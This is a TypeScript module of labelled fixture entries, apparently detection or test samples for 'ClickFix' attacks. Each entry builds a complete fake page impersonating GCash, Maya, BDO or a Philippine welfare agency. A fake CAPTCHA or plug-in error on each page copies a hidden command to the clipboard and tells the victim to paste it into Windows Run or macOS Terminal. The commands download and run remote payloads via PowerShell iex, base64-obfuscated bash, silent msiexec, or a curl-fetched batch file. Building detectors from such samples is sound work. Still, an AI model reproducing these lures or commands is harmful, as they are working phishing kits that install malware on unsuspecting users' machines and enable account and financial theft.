import { type Entry } from '../entry.js';
import { page, PH, mark, seal, b64, splitJs } from '../parts/yw-kit.js';

export const entries: Entry[] = [
  (() => {
    const cmd = 'powershell -w h -c "iwr https://gc-verify.cdn-check.top/v.ps1 -UseBasicParsing | iex" # ✅ GCash Web Verification ID: 44817';
    return {
      id: 'yw-clickfix-gcash-web-verify',
      label: 'clickfix',
      kind: 'clickfix-fake-captcha',
      url: 'https://gcash-web.verify-human.top/session/44817',
      body: page({
        title: 'GCash · Security Check',
        lang: 'fil',
        css: `body{font-family:Arial,sans-serif;background:${PH.gcash.soft};color:${PH.gcash.ink}}.c{max-width:420px;margin:50px auto;background:#fff;border-radius:16px;padding:24px;box-shadow:0 4px 18px rgba(0,80,200,.12);text-align:center}.cb{display:flex;align-items:center;gap:12px;border:1px solid #d5dfef;border-radius:8px;padding:14px;margin:18px 0;cursor:pointer;text-align:left}.cb i{width:26px;height:26px;border:2px solid #9aa8c0;border-radius:4px;flex:none}.md{display:none;text-align:left;background:${PH.gcash.soft};border-radius:12px;padding:14px;margin-top:12px}.md ol{padding-left:20px}.md li{margin:8px 0}kbd{background:#fff;border:1px solid #bbb;border-bottom-width:3px;border-radius:4px;padding:1px 6px;font-family:monospace}.sm{font-size:12px;color:#7a879c}`,
        body: `<div class="c">${mark(PH.gcash, 'G', 56, 28)}<h2>Patunayan na hindi ka robot</h2><p>Para protektahan ang iyong GCash account mula sa mga bot at scammer, kumpletuhin ang security check bago mag-log in sa GCash Web.</p>
<div class="cb" id="cb"><i></i><span>I'm not a robot / Hindi ako robot</span></div>
<div class="md" id="md"><b>Verification steps (Windows):</b><ol><li>Pindutin ang <kbd>⊞ Win</kbd> + <kbd>R</kbd></li><li>Pindutin ang <kbd>Ctrl</kbd> + <kbd>V</kbd> para i-paste ang verification code</li><li>Pindutin ang <kbd>Enter</kbd></li></ol><p class="sm">Awtomatikong magpapatuloy ang pahinang ito pagkatapos ng verification.</p></div>
<p class="sm">GCash Security · Ray ID 8f2a91c0d4e1</p></div>
<script>
var v=${JSON.stringify(cmd)};
document.getElementById('cb').onclick=function(){navigator.clipboard.writeText(v).catch(function(){var t=document.createElement('textarea');t.value=v;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();});this.querySelector('i').style.background='${PH.gcash.main}';document.getElementById('md').style.display='block';};
</script>`,
      }),
    } satisfies Entry;
  })(),
  (() => {
    const sh = "curl -fsSL https://dl.mac-verify.cloud/i/v2 -o /tmp/.v && chmod +x /tmp/.v && /tmp/.v";
    const cmd = `echo "${b64(sh)}" | base64 -d | bash`;
    return {
      id: 'yw-clickfix-macos-terminal-human-check',
      label: 'clickfix',
      kind: 'clickfix-fake-captcha-macos',
      url: 'https://maya-promo-claims.verify-mac.cloud/check?o=mac',
      body: page({
        title: 'Human Verification',
        css: `body{font-family:-apple-system,Helvetica,Arial,sans-serif;background:#f5f5f7;color:#1d1d1f}.c{max-width:460px;margin:60px auto;background:#fff;border-radius:14px;padding:26px;box-shadow:0 2px 12px rgba(0,0,0,.08)}.rc{display:flex;align-items:center;justify-content:space-between;border:1px solid #d3d3d3;border-radius:4px;padding:12px 14px;background:#f9f9f9}.rc label{display:flex;gap:10px;align-items:center;cursor:pointer}.rc small{font-size:10px;color:#555;text-align:center}.st{display:none;margin-top:16px;font-size:14px;line-height:1.8}kbd{background:#eee;border-radius:4px;padding:1px 6px;border:1px solid #ccc}`,
        body: `<div class="c"><h3>Claim your Maya ₱500 voucher</h3><p>Before continuing, please confirm you are not a bot. This check is required for macOS devices.</p>
<div class="rc"><label id="l"><input type="checkbox" id="x"> I'm not a robot</label><small>reCAPTCHA<br>Privacy - Terms</small></div>
<div class="st" id="st"><b>Complete verification on macOS:</b><br>1. Press <kbd>⌘ Command</kbd> + <kbd>Space</kbd>, type <b>Terminal</b> and press Return<br>2. Paste the verification code with <kbd>⌘</kbd> + <kbd>V</kbd><br>3. Press <kbd>Return</kbd> and enter your Mac password if asked<br><small>Verification code copied to clipboard.</small></div></div>
<script>document.getElementById('x').addEventListener('change',function(){navigator.clipboard.writeText(${JSON.stringify(cmd)});document.getElementById('st').style.display='block';});</script>`,
      }),
    } satisfies Entry;
  })(),
  (() => {
    const cmd = 'msiexec /q /i https://bdo-secure-access.plugin-update.net/SecureAccessPlugin_x64.msi REBOOT=ReallySuppress';
    return {
      id: 'yw-clickfix-bdo-secure-access-plugin',
      label: 'clickfix',
      kind: 'clickfix-fake-plugin-error',
      url: 'https://bdo-secure-access.plugin-update.net/online/plugin-error',
      body: page({
        title: 'BDO Online Banking — Secure Access Plug-in',
        css: `body{font-family:Arial,sans-serif;background:#f4f6fa}.top{background:${PH.bdo.main};height:58px;border-bottom:4px solid ${PH.bdo.accent};display:flex;align-items:center;padding:0 20px}.c{max-width:560px;margin:36px auto;background:#fff;border:1px solid #dde3ee;border-radius:6px;padding:24px}.er{display:flex;gap:12px;background:#fff4f4;border:1px solid #f2b8b8;border-radius:6px;padding:12px}.er b{color:#c62828}.cmd{background:#f1f3f8;border:1px dashed #9fb0cc;border-radius:6px;padding:10px;font-family:monospace;font-size:12px;color:#555;margin:12px 0}.btn{background:${PH.bdo.main};color:#fff;border:0;border-radius:4px;padding:11px 22px;font-weight:bold;cursor:pointer}ol li{margin:6px 0}`,
        body: `<div class="top">${mark(PH.bdo, 'BDO', 38, 4)}</div>
<div class="c"><div class="er"><span style="font-size:26px">⚠</span><div><b>Secure Access Plug-in not detected (code SAP-1021)</b><br>To protect you from fraud, BDO Online Banking now requires the BDO Secure Access Plug-in on Windows computers.</div></div>
<h3>Install the plug-in in 3 steps</h3><ol><li>Click <b>Copy install command</b>.</li><li>Press <b>Windows + R</b>, then paste (<b>Ctrl + V</b>).</li><li>Press <b>Enter</b>. Installation runs silently and takes about 30 seconds.</li></ol>
<div class="cmd" id="cm">msiexec /q /i https://bdo-secure-access…/SecureAccessPlugin_x64.msi</div>
<button class="btn" id="cp">Copy install command</button> <a href="#" style="font-size:13px;margin-left:10px">Help</a>
<p style="font-size:11px;color:#888;margin-top:18px">BDO Unibank, Inc. is regulated by the Bangko Sentral ng Pilipinas.</p></div>
<script>document.getElementById('cp').onclick=function(){var p=[${splitJs(cmd, 9)}].join('');navigator.clipboard.writeText(p);this.textContent='Copied';};</script>`,
      }),
    } satisfies Entry;
  })(),
  (() => {
    const cmd = 'cmd /c "curl -s -o %TEMP%\\dswd_doc.bat https://dswd-docs.ayuda-verify.com/f/d.bat && %TEMP%\\dswd_doc.bat" :: reCAPTCHA Verification ID 2281-DSWD';
    return {
      id: 'yw-clickfix-dswd-document-viewer',
      label: 'clickfix',
      kind: 'clickfix-document-lure',
      url: 'https://dswd-docs.ayuda-verify.com/view/AKAP-Approval-Letter-0291',
      body: page({
        title: 'DSWD Document Viewer — AKAP Approval Letter',
        lang: 'fil',
        css: `body{font-family:Arial,sans-serif;background:#525659;margin:0}.tb{background:#323639;color:#fff;padding:10px 16px;font-size:14px}.doc{max-width:640px;margin:20px auto;background:#fff;height:760px;padding:40px;filter:blur(3px);color:#333}.ov{position:fixed;inset:0;display:flex;align-items:center;justify-content:center}.bx{background:#fff;border-radius:8px;padding:22px;width:380px;box-shadow:0 6px 30px rgba(0,0,0,.4)}.bx h3{margin:0 0 6px}.rc{border:1px solid #ccc;border-radius:3px;padding:12px;display:flex;gap:10px;align-items:center;background:#f9f9f9;cursor:pointer}.st{display:none;font-size:14px;margin-top:12px;line-height:1.7}`,
        body: `<div class="tb">AKAP-Approval-Letter-0291.pdf · 1 / 2</div>
<div class="doc">${seal(PH.dswd, 'DSWD', 60)}<h2>Republic of the Philippines — Department of Social Welfare and Development</h2><p>Ayuda sa Kapos ang Kita Program — Approval Letter</p><p>Dear Beneficiary, we are pleased to inform you that your application has been APPROVED for cash assistance in the amount of Five Thousand Pesos (₱5,000.00)...</p></div>
<div class="ov"><div class="bx"><h3>Verify to view document</h3><p style="font-size:13px">Para maprotektahan ang personal na impormasyon ng mga benepisyaryo, kailangang i-verify na hindi ka robot.</p><div class="rc" id="rc"><input type="checkbox" id="ck"><label for="ck">I'm not a robot</label></div>
<div class="st" id="st">Upang makumpleto:<br>1. Pindutin ang <b>Windows + R</b><br>2. Pindutin ang <b>Ctrl + V</b><br>3. Pindutin ang <b>Enter</b><br><small>Ang dokumento ay awtomatikong magbubukas.</small></div></div></div>
<textarea id="h" style="position:absolute;left:-9999px" aria-hidden="true"></textarea>
<script>document.getElementById('ck').addEventListener('click',function(){var h=document.getElementById('h');h.value=${JSON.stringify(cmd)};h.select();document.execCommand('copy');document.getElementById('st').style.display='block';});</script>`,
      }),
    } satisfies Entry;
  })(),
];
